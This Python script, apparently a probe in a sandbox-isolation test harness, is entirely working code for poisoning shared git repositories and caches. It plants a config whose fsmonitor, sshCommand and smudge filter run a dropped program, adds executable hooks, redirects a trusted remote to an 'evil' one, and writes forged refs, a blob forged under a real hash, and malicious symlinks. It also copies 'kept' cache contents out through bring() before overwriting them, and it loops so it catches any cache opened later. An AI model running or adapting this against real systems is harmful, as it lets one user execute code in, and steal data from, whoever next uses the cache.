"""Write into caches by all means, for whoever uses them next; again and again, should one be open for a moment."""

from __future__ import annotations

import os
import subprocess
import time
import zlib
from contextlib import suppress
from pathlib import Path

from probe import TARGETS, attempt, bring, say

EVIL, GOOD, MARK = TARGETS["evil"], TARGETS["good"], TARGETS["mark"]
_PROGRAM = f"#!/bin/sh\ntouch {MARK}\nexec cat\n"
_CONFIG = f"""[core]
	repositoryformatversion = 0
	bare = true
	fsmonitor = {{program}}
	hooksPath = {{place}}/hooks
	attributesFile = {{place}}/info/attributes
	sshCommand = {{program}}
[url "{EVIL}"]
	insteadOf = {GOOD}
[filter "x"]
	smudge = {{program}}
	process = {{program}}
[include]
	path = {{place}}/more
"""


def _program(place: Path) -> str:
    path = place / "program"
    path.write_text(_PROGRAM, encoding="utf-8")
    path.chmod(0o755)
    return str(path)


def _config(place: Path) -> int:
    return (place / "config").write_text(_CONFIG.format(program=_program(place), place=place), encoding="utf-8")


def _hooks(place: Path) -> int:
    (place / "hooks").mkdir(exist_ok=True)
    for name in ("reference-transaction", "post-checkout", "pre-auto-gc", "proc-receive", "update"):
        (place / "hooks" / name).write_text(_PROGRAM, encoding="utf-8")
        (place / "hooks" / name).chmod(0o755)
    return 5


def _attributes(place: Path) -> int:
    (place / "info").mkdir(exist_ok=True)
    return (place / "info" / "attributes").write_text("* filter=x\n", encoding="utf-8")


def _alternates(place: Path) -> int:
    info = place / "objects" / "info"
    info.mkdir(exist_ok=True)
    return (info / "alternates").write_text(f"{TARGETS['evil-objects']}\n", encoding="utf-8")


def _refs(place: Path) -> int:
    commit = TARGETS["evil-commit"]
    (place / "refs" / "heads").mkdir(exist_ok=True, parents=True)
    (place / "refs" / "heads" / "main").write_text(f"{commit}\n", encoding="utf-8")
    (place / "packed-refs").write_text(f"# pack-refs with: peeled fully-peeled sorted \n{commit} refs/heads/main\n")
    return (place / "HEAD").write_text(f"{commit}\n", encoding="utf-8")


def _object(place: Path) -> int:
    """Another content under the hash of the file `answer`."""
    blob = TARGETS["good-blob"]
    folder = place / "objects" / blob[:2]
    folder.mkdir(exist_ok=True)
    target = folder / blob[2:]
    target.unlink(missing_ok=True)
    return target.write_bytes(zlib.compress(b"blob 5\0evil\n"))


def _link(place: Path) -> str:
    os.symlink(TARGETS["evil-config"], place / "worktree-config")
    os.symlink(TARGETS["evil-objects"], place / "objects" / "aa")
    return "made"


def _cache(place: Path) -> int:
    for path in place.rglob("kept"):
        bring(path.read_bytes())
        path.write_text("evil\n", encoding="utf-8")
    return (place / "kept").write_text("evil\n", encoding="utf-8")


ACTIONS = {
    "config": _config, "hooks": _hooks, "attributes": _attributes, "alternates": _alternates, "refs": _refs,
    "object": _object, "link": _link, "cache": _cache,
}  # fmt: skip
ACTIONS = {name: action for name, action in ACTIONS.items() if not TARGETS["actions"] or name in TARGETS["actions"]}
for text in TARGETS["places"]:
    for name, action in ACTIONS.items():
        if (name == "cache") == ("/git/" not in text):
            attempt(f"{name}:{Path(text).name[:8]}", lambda text=text, action=action: action(Path(text)))
written = 0
end = time.monotonic() + TARGETS["seconds"]
while time.monotonic() < end:
    for text in TARGETS["places"]:
        for action in ACTIONS.values():
            with suppress(OSError):
                written += bool(action(Path(text)))
    time.sleep(0.002)
say("while-open", f"had '{written} writes'")
say("git", f"had {subprocess.run(['git', '--version'], capture_output=True, text=True, check=False).stdout.strip()}")
